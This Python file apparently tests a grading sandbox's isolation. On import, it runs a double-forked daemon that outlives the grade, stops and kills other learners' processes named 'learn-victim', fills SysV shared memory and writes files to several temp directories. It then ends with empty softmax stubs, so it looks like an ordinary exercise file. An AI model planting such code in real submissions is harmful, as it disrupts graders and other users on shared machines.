"""Leave a daemon behind (setsid, double fork) that outlives the grade and stops, then kills,
the next learners' children (in a class batch), and leaves SysV shared memory and files in
/dev/shm, /var/tmp, /run/lock and /tmp on the host.

To stay harmless on a shared machine it signals only processes named "learn-victim" (the
tests name an honest child so) and ends by itself after 20 s.
"""
import ctypes
import os
import signal
import time

MARK = "learn-attack-daemon"
VICTIM = b"learn-victim"


def _daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    for key in range(4):
        shmid = libc.shmget(0x4C524E00 + key, 16 << 20, 0o1000 | 0o666)   # IPC_CREAT
        if shmid >= 0:
            addr = libc.shmat(shmid, None, 0)
            if addr not in (None, ctypes.c_void_p(-1).value):
                ctypes.memset(addr, 1, 16 << 20)
    for folder in ("/dev/shm", "/var/tmp", "/run/lock", "/tmp"):
        try:
            with open(f"{folder}/{MARK}-{os.getpid()}", "w") as f:
                f.write("x" * (1 << 20))
        except OSError:
            pass
    end = time.time() + 20
    while time.time() < end:
        for name in os.listdir("/proc"):
            try:
                with open(f"/proc/{name}/comm", "rb") as f:
                    if f.read().strip() != VICTIM:
                        continue
                os.kill(int(name), signal.SIGSTOP)
                time.sleep(0.2)
                os.kill(int(name), signal.SIGKILL)
            except (OSError, ValueError):
                pass
        time.sleep(0.02)
    os._exit(0)


_daemon()


def softmax(x, dim=-1):
    raise NotImplementedError


def softmax_np(x, axis=-1):
    raise NotImplementedError
